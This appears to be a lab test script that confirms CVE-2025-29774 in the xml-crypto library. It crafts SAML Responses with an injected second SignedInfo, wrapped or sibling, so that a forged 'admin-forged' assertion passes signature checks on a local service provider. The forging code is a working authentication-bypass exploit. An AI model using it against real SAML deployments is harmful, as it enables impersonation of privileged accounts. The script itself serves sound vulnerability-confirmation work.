// node confirm.js (env MNCTF_LAB_INSTALL, RELEASE_DIR)
// CVE-2025-29774 (GHSA-9p8x-f768-wp2g): a second SignedInfo (wrapped in a foreign element, or a
// sibling) whose Reference points at the attacker's assertion; the SignatureValue is over the real one.
// 1) the fix commit's two fixtures, checked the README way (library level);
// 2) both shapes on a fresh IdP-signed Response, through the README SP wrapper.
'use strict';
const fs = require('fs');
const path = require('path');
const g = require('./genlib');
const inst = (n) => require(require.resolve(n, { paths: [path.join(process.env.MNCTF_LAB_INSTALL, 'node_modules')] }));
const { SignedXml } = inst('xml-crypto');
const { DOMParser } = inst('@xmldom/xmldom');
const xpath = inst('xpath');
const { makeSp } = require(path.join(process.env.RELEASE_DIR, 'sp.js'));
let fooled = 0, checks = 0;

// 1) fixtures (informational): the README check on the first Assertion (ID OUR_CUSTOM_ID). The fix
// commit wrote them to test 6.0.1 only: their second Reference's DigestValue (jGst6...) does not match
// OUR_CUSTOM_ID, so 6.0.0 answers false on them too; the crafted messages below carry a correct one.
for (const f of ['saml_wrapped_signed_info_node.xml', 'saml_multiple_signed_info_nodes.xml']) {
  const xml = fs.readFileSync(path.join(__dirname, 'fixtures', f), 'utf8');
  const doc = new DOMParser().parseFromString(xml, 'text/xml');
  const assertion = xpath.select1("//*[local-name(.)='Assertion']", doc);
  const signature = xpath.select1("//*[local-name(.)='Signature' and namespace-uri(.)='http://www.w3.org/2000/09/xmldsig#']", assertion);
  const sig = new SignedXml({ publicCert: fs.readFileSync(path.join(__dirname, 'fixtures/saml_external_ns.pem')) });
  let res;
  try {
    sig.loadSignature(signature);
    res = sig.checkSignature(xml);
    if (res) { sig.validateElementAgainstReferences(assertion, doc); res = 'accepted ' + assertion.getAttribute('ID'); }
  } catch (e) { res = 'threw: ' + e.message.slice(0, 100); }
  console.log(`  fixture ${f}: references=${sig.getReferences().map((r) => r.uri).join(',')} -> ${res}`);
}

// 2) crafted through the wrapper
const port = 27004;
const idp = g.mkKeys('confirm-idp');
const idpEntity = 'http://127.0.0.1:18999/idp';
const idpMetadata = `<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" xmlns:ds="http://www.w3.org/2000/09/xmldsig#" entityID="${idpEntity}"><md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"><md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>${idp.certB64}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor><md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="http://127.0.0.1:18999/sso"/></md:IDPSSODescriptor></md:EntityDescriptor>`;
const sp = makeSp({ port, idpMetadata, spCert: g.mkKeys('confirm-sp').certPem, authnClass: 'urn:mnctf:ac:classes:jpki-user-authentication' });
const base = `http://127.0.0.1:${port}`;
let control = null;
for (const mode of ['control', 'wrapped', 'sibling']) {
  const irt = g.requestIdFromUrl(sp.authorizeUrl());
  const aId = g.rid(), eId = g.rid(), rId = g.rid();
  const A = g.sign(g.assertionXml({ aId, idpEntity, nameID: 'alice', acs: `${base}/acs`, audience: `${base}/metadata`, irt }), aId, { key: idp.key });
  let msg;
  if (mode === 'control') msg = g.responseXml({ rId, idpEntity, acs: `${base}/acs`, irt, inner: A });
  else {
    const S = A.match(/<ds:Signature[\s\S]*<\/ds:Signature>/)[0];
    const Abare = A.replace(S, '');
    const E = Abare.replace(`ID="${aId}"`, `ID="${eId}"`).replace('>alice</saml:NameID>', '>admin-forged</saml:NameID>');
    const dE = g.digestOf(E, eId);
    const ref = S.match(/<ds:Reference[\s\S]*<\/ds:Reference>/)[0]
      .replace(`URI="#${aId}"`, `URI="#${eId}"`).replace(/<ds:DigestValue>[^<]*<\/ds:DigestValue>/, `<ds:DigestValue>${dE}</ds:DigestValue>`);
    const evilSI = `<ds:SignedInfo>${ref}</ds:SignedInfo>`;
    const S2 = mode === 'wrapped'
      ? S.replace(/(<ds:Signature[^>]*>)/, `$1<WRAPPER>${evilSI}</WRAPPER>`)
      : S.replace('</ds:SignedInfo>', `</ds:SignedInfo>${evilSI}`);
    const E2 = E.replace('</saml:Issuer>', `</saml:Issuer>${S2}`);
    msg = g.responseXml({ rId, idpEntity, acs: `${base}/acs`, irt, inner: `${E2}<a>${Abare}</a>` });
  }
  let got = null;
  try { got = sp.validate(Buffer.from(msg).toString('base64')).nameID; console.log(`  ${mode}: ACCEPTED, NameID=${got}`); }
  catch (e) { console.log(`  ${mode}: refused: ${e.message.slice(0, 140)}`); }
  if (mode === 'control') control = got; else { checks++; if (got === 'admin-forged') fooled++; }
}
if (control !== 'alice') { console.log('  control refused: the result says nothing'); process.exit(2); }
console.log(`  fooled in ${fooled} of ${checks} checks`);
process.exit(fooled === checks ? 0 : fooled === 0 ? 1 : 3);
